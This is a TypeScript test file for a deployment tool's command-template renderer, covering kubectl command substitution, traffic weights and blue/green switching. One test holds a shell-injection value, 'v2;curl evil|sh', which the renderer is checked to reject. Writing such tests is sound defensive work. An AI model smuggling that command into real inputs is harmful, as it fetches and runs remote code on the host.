import { describe, expect, it } from 'vitest';
import { COMMAND_OPERATIONS } from '../../plan/schema/command-target.js';
import { commandVariables } from '../../plan/target-variables.js';
import type { DeploymentInfo } from '../../steps/step.js';
import { emptyState } from '../applied-state.js';
import { renderCommand } from './render.js';
import { trafficVariables } from './traffic.js';
import {
  headerRouteVariables,
  maintenanceVariables,
  startVariables,
  stopVariables,
  switchVariables,
} from './variables.js';

const V = (name: string) => `\${${name}}`;

const INFO: DeploymentInfo = {
  id: 'd-1a2b3c4d5e',
  service: 'api',
  environment: 'production',
  version: 'v2',
  previousVersion: 'v1',
  requestedBy: 'Ada Lovelace',
};

const SETTINGS = {
  secrets: new Map([['KUBE_TOKEN', 's3cret-token']]),
  env: { KUBECONFIG: `/etc/kube/${V('environment')}.yaml` },
  cwd: '/srv/plans',
  timeoutMs: 600_000,
};

const STATE = {
  ...emptyState(),
  versions: [
    { version: 'v1', slot: 'blue', instances: 3, status: 'running' as const },
    { version: 'v2', slot: 'green', instances: 3, status: 'running' as const },
  ],
  weights: { v1: 100 },
};

describe('rendering a command template', () => {
  it('substitutes the variables into /bin/sh -c and exports them as GANTRY_* for scripts', () => {
    const template = `kubectl --token ${V('secrets.KUBE_TOKEN')} set image deployment/api-${V('color')} api=registry/api:${V('version')} --replicas=${V('instances')}`;
    const command = renderCommand(
      {
        source: 'target.command.start',
        template,
        variables: startVariables(INFO, { version: 'v2', slot: 'green' }, 3, true),
        purpose: 'start v2 in green',
      },
      SETTINGS,
    );
    expect(command).toEqual({
      purpose: 'start v2 in green',
      source: 'target.command.start',
      argv: [
        '/bin/sh',
        '-c',
        'kubectl --token s3cret-token set image deployment/api-green api=registry/api:v2 --replicas=3',
      ],
      env: {
        KUBECONFIG: '/etc/kube/production.yaml',
        GANTRY_SERVICE: 'api',
        GANTRY_ENVIRONMENT: 'production',
        GANTRY_VERSION: 'v2',
        GANTRY_PREVIOUS_VERSION: 'v1',
        GANTRY_DEPLOYMENT_ID: 'd-1a2b3c4d5e',
        GANTRY_REQUESTED_BY: 'Ada Lovelace',
        GANTRY_INSTANCES: '3',
        GANTRY_COLOR: 'green',
      },
      cwd: '/srv/plans',
      timeoutMs: 600_000,
    });
  });

  it('gives setTraffic the weights by role and by slot', () => {
    const traffic = trafficVariables({
      info: INFO,
      state: STATE,
      sharesPct: { v1: 90, v2: 10 },
      colors: ['blue', 'green'],
      canSplit: true,
    });
    expect(traffic).toEqual({
      operation: 'setTraffic',
      purpose: 'send 90% to v1, 10% to v2',
      variables: expect.objectContaining({
        'weight.new': '10',
        'weight.old': '90',
        'weight.blue': '90',
        'weight.green': '10',
        'new.version': 'v2',
        'new.color': 'green',
        'old.version': 'v1',
        'old.color': 'blue',
      }),
    });
  });

  it('switches to the slot that gets everything, from the one that had it, in both directions', () => {
    const forward = trafficVariables({
      info: INFO,
      state: STATE,
      sharesPct: { v2: 100 },
      colors: ['blue', 'green'],
      canSplit: false,
    });
    expect([forward.operation, forward.purpose]).toEqual(['switch', 'switch all traffic to v2 (green)']);
    expect(forward.variables).toMatchObject({
      'to.color': 'green',
      'to.version': 'v2',
      'from.color': 'blue',
      'from.version': 'v1',
    });
    const back = trafficVariables({
      info: INFO,
      state: { ...STATE, weights: { v2: 100 } },
      sharesPct: { v1: 100 },
      colors: ['blue', 'green'],
      canSplit: false,
    });
    expect(back.variables).toMatchObject({ 'to.color': 'blue', 'from.color': 'green' });
  });

  it('refuses a partial split when only switch is defined', () => {
    expect(() =>
      trafficVariables({
        info: INFO,
        state: STATE,
        sharesPct: { v1: 50, v2: 50 },
        colors: ['blue', 'green'],
        canSplit: false,
      }),
    ).toThrow('cannot send 50% to v1, 50% to v2: target.command has only `switch`');
  });

  it('refuses a version name that would change the shell command', () => {
    const hostile = { ...INFO, version: 'v2;curl evil|sh' };
    expect(() =>
      renderCommand(
        {
          source: 'target.command.start',
          template: `deploy ${V('version')}`,
          variables: startVariables(hostile, { version: hostile.version, slot: 'green' }, 1, true),
          purpose: 'start',
        },
        SETTINGS,
      ),
    ).toThrow(
      `target.command.start: ${V('version')} is "v2;curl evil|sh", which is not safe to put in a shell command`,
    );
  });

  it('lets free text through where a plan quotes it, such as the maintenance message', () => {
    const command = renderCommand(
      {
        source: 'target.command.maintenance',
        template: `page --on=${V('maintenance.enabled')} --retry=${V('maintenance.retryAfter')} "$GANTRY_MAINTENANCE_MESSAGE"`,
        variables: maintenanceVariables(INFO, true, {
          message: "We'll be back at 6",
          retryAfterSeconds: 120,
        }),
        purpose: 'maintenance on',
      },
      SETTINGS,
    );
    expect(command.argv[2]).toBe('page --on=true --retry=120 "$GANTRY_MAINTENANCE_MESSAGE"');
    expect(command.env.GANTRY_MAINTENANCE_MESSAGE).toBe("We'll be back at 6");
  });
});

describe('the variables each operation gets', () => {
  const placed = { version: 'v2', slot: 'green' };
  const rendered = {
    start: Object.keys(startVariables(INFO, placed, 3, true)),
    stop: Object.keys(stopVariables(INFO, placed, true)),
    setTraffic: Object.keys(
      trafficVariables({
        info: INFO,
        state: STATE,
        sharesPct: { v2: 100 },
        colors: ['blue', 'green'],
        canSplit: true,
      }).variables,
    ),
    switch: Object.keys(switchVariables(INFO, placed, null, true)),
    headerRoute: Object.keys(headerRouteVariables(INFO, placed, 'X-Gantry-Canary', true)),
    maintenance: Object.keys(maintenanceVariables(INFO, true, {})),
    describe: Object.keys(startVariables(INFO, placed, 1, false)).filter((name) => name !== 'instances'),
  };

  it.each(COMMAND_OPERATIONS.map((operation) => [operation]))(
    '%s renders exactly the variables validation accepts',
    (operation) => {
      expect([...rendered[operation]].sort()).toEqual(
        commandVariables(operation, ['blue', 'green'], true).sort(),
      );
    },
  );
});
